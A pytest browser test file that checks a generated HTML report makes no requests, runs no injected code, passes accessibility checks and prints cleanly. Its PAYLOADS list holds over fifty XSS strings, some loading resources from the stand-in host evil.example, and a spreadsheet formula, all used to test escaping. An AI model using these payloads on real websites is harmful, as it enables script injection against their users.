"""The report in a real browser: it runs nothing, fetches nothing, and everyone can read it."""

from __future__ import annotations

import shutil
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from headstart import report

pytestmark = pytest.mark.browser

SWITCHES = (
    "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
    "--disable-component-update", "--disable-sync",
)  # fmt: skip
CODE = "window.hit=1"
PAYLOADS = (
    f"<script>{CODE}</script>", f"<ScRiPt>{CODE}</sCrIpT>", f"<script src=https://evil.example/x.js>{CODE}</script>",
    f"<img src=x onerror={CODE}>", f"<img src=https://evil.example/i.png onload={CODE}>", f"<svg onload={CODE}>",
    f"<svg><script>{CODE}</script></svg>", f"<svg/onload={CODE}//", f"<body onload={CODE}>",
    f"<iframe src='javascript:parent.{CODE}'>", "<iframe src=https://evil.example/></iframe>",
    f"<iframe srcdoc='<script>parent.{CODE}</script>'>", f"<details open ontoggle={CODE}>",
    f"<video><source onerror={CODE}>",
    f"<audio src=x onerror={CODE}>", f"<input autofocus onfocus={CODE}>", f"<select autofocus onfocus={CODE}>",
    f"<textarea autofocus onfocus={CODE}>", f"<marquee onstart={CODE}>", f"<object data='javascript:{CODE}'>",
    f"<embed src='javascript:{CODE}'>", "<link rel=stylesheet href=https://evil.example/s.css>",
    "<style>@import 'https://evil.example/s.css';</style>", "<style>*{background:url(https://evil.example/b)}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>", "<base href=https://evil.example/>",
    f"<form action=https://evil.example/><button autofocus onfocus={CODE}>", f"<a href='javascript:{CODE}'>x</a>",
    f"</title><script>{CODE}</script>", f"</style><script>{CODE}</script>", f"</svg><script>{CODE}</script>",
    f"</p></main></body><script>{CODE}</script>", f"--><script>{CODE}</script>", f"]]><script>{CODE}</script>",
    f"<!--><script>{CODE}</script>-->", f'" onmouseover="{CODE}', f"' onmouseover='{CODE}",
    f'" autofocus onfocus="{CODE}',
    f"` onmouseover=`{CODE}", f'"><script>{CODE}</script>', f"'><script>{CODE}</script>",
    f"&lt;script&gt;{CODE}&lt;/script&gt;", f"&#60;script&#62;{CODE}&#60;/script&#62;", f"\\u003cscript\\u003e{CODE}",
    f"%3Cscript%3E{CODE}%3C/script%3E", f"+ADw-script+AD4-{CODE}",
    f"<math><mtext><script>{CODE}</script></mtext></math>",
    f"<template><script>{CODE}</script></template>", f"<noscript><p title='</noscript><img src=x onerror={CODE}>'>",
    f"{{{{constructor.constructor('{CODE}')()}}}}", f"${{{CODE}}}", f"javascript:{CODE}",
    f"\x00<script\x00>{CODE}</script>", f"\u202e<script>{CODE}</script>\u202c", "=HYPERLINK(\"https://evil.example\")",
)  # fmt: skip

TOUCHED = """
for (const one of document.querySelectorAll('*')) {
    if (one.tagName === 'DETAILS') one.open = true;
    if (one.focus) one.focus();
    for (const event of ['mouseover', 'mouseenter', 'focus', 'toggle', 'load', 'error', 'start'])
        one.dispatchEvent(new Event(event));
}
"""
"""What a reader's mouse and keyboard do to every element."""


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    from playwright.sync_api import sync_playwright

    program = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    assert program, "these tests need Chromium: make browser"
    with sync_playwright() as playwright:
        found = playwright.chromium.launch(executable_path=program, args=list(SWITCHES))
        yield found
        found.close()


@pytest.fixture
def opened(browser: Any) -> Iterator[Callable[..., tuple[Any, list[str]]]]:
    """Opens a file and gives the page with everything it said, asked for or ran into."""
    contexts = []

    def open_file(path: Path, **settings: Any) -> tuple[Any, list[str]]:
        context = browser.new_context(**settings)
        contexts.append(context)
        page, seen = context.new_page(), []
        page.on("console", lambda message: seen.append(f"console: {message.text}"))
        page.on("pageerror", lambda error: seen.append(f"error: {error}"))
        page.on("dialog", lambda dialog: (seen.append("dialog"), dialog.dismiss()))
        page.on("request", lambda request: seen.append(f"request: {request.url}"))
        page.on("framenavigated", lambda frame: seen.append(f"frame: {frame.url}"))
        page.goto(path.as_uri())
        page.wait_for_load_state("networkidle")
        return page, [one for one in seen if path.as_uri() not in one and ": data:" not in one]

    yield open_file
    for context in contexts:
        context.close()


@pytest.mark.parametrize("modality", ["text", "image"])
def test_it_opens_without_an_error_or_a_request(make_run: Any, opened: Any, modality: str) -> None:
    page, seen = opened(report.write(make_run(modality=modality)))
    assert seen == []
    assert page.locator("h1").inner_text().endswith("The transfer helped")
    broken = "[...document.images].filter(image => !image.complete || !image.naturalWidth).length"
    page.wait_for_function(f"{broken} === 0")
    assert page.evaluate("document.images.length") == (0 if modality == "text" else page.locator("img").count())


def test_fifty_hostile_strings_run_nothing(make_run: Any, opened: Any) -> None:
    assert len(set(PAYLOADS)) >= 50
    for start in range(0, len(PAYLOADS), 14):
        part = PAYLOADS[start : start + 14]
        page, seen = opened(report.write(make_run(labels=part, text="".join(part), rows=40)))
        page.evaluate(TOUCHED)
        assert seen == []
        assert page.evaluate("window.hit") is None
        assert page.locator("script, iframe, object, embed, form, base").count() == 0
        assert page.evaluate("document.querySelectorAll('[onerror],[onload],[onfocus],[onmouseover]').length") == 0


@pytest.mark.parametrize("payload", ["<script>window.hit=1</script>", '" onfocus="window.hit=1'])
def test_hostile_facts_of_a_run_and_of_a_comparison_run_nothing(make_run: Any, opened: Any, payload: str) -> None:
    runs = [make_run(labels=(payload, "b"), text=payload, rows=30) for _ in range(2)]
    page, seen = opened(report.compare(runs))
    page.evaluate(TOUCHED)
    assert seen == []
    assert page.evaluate("window.hit") is None


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("case", ["text", "image", "regression", "comparison"])
def test_axe_finds_no_violation(make_run: Any, opened: Any, scheme: str, case: str) -> None:
    from axe_playwright_python.sync_playwright import Axe

    changes = {"image": {"modality": "image"}, "regression": {"problem": "regression"}}.get(case, {})
    run = make_run(rows=60, **changes)
    path = report.compare([run, make_run(rows=60)]) if case == "comparison" else report.write(run)
    page, _ = opened(path, color_scheme=scheme)
    page.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
    found = Axe().run(page)
    assert found.violations_count == 0, found.generate_report()


@pytest.mark.parametrize("width", [360, 800, 1600])
def test_no_width_makes_the_page_scroll_sideways(make_run: Any, opened: Any, width: int) -> None:
    page, _ = opened(report.write(make_run(modality="image", rows=60)), viewport={"width": width, "height": 800})
    assert page.evaluate("document.documentElement.scrollWidth") <= width


def test_it_prints_on_pages(make_run: Any, opened: Any, tmp_path: Path) -> None:
    page, _ = opened(report.write(make_run(rows=60)))
    printed = page.pdf(format="A4", print_background=True)
    assert printed.startswith(b"%PDF")
    assert 2 <= printed.count(b"/Type /Page\n") + printed.count(b"/Type /Page ") <= 40


def test_it_is_written_in_seconds_and_stays_small(make_run: Any) -> None:
    run = make_run(modality="image", rows=2000, labels=tuple(f"topic {n}" for n in range(77)))
    begin = time.perf_counter()
    written = report.write(run)
    assert time.perf_counter() - begin < 5
    assert written.stat().st_size < 5_000_000
